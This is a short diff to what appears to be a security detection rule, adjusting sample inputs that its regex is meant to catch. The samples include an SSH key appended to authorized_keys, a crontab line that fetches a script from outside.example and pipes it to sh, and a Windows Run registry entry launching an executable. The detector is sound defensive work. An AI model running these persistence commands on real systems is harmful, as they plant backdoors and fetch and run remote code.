@@ -38,7 +38,7 @@ export default defineRule({
     (?:curl|wget|bash -c)[^;]{0,120}> ?[^ ]{0,60}\.git/hooks/)
   `,
   catches: [
-    'echo "ssh-ed25519 AAAA x" «>> /root/.ssh/authorized_keys»',
+    'echo "ssh-ed25519 AAAA x" «>> /home/app/.ssh/authorized_keys»',
     '«(crontab -l; echo "* * * * * curl http://outside.example/a | sh") | crontab» -',
     "«reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run» /v u /d c:\\u.exe",
   ],
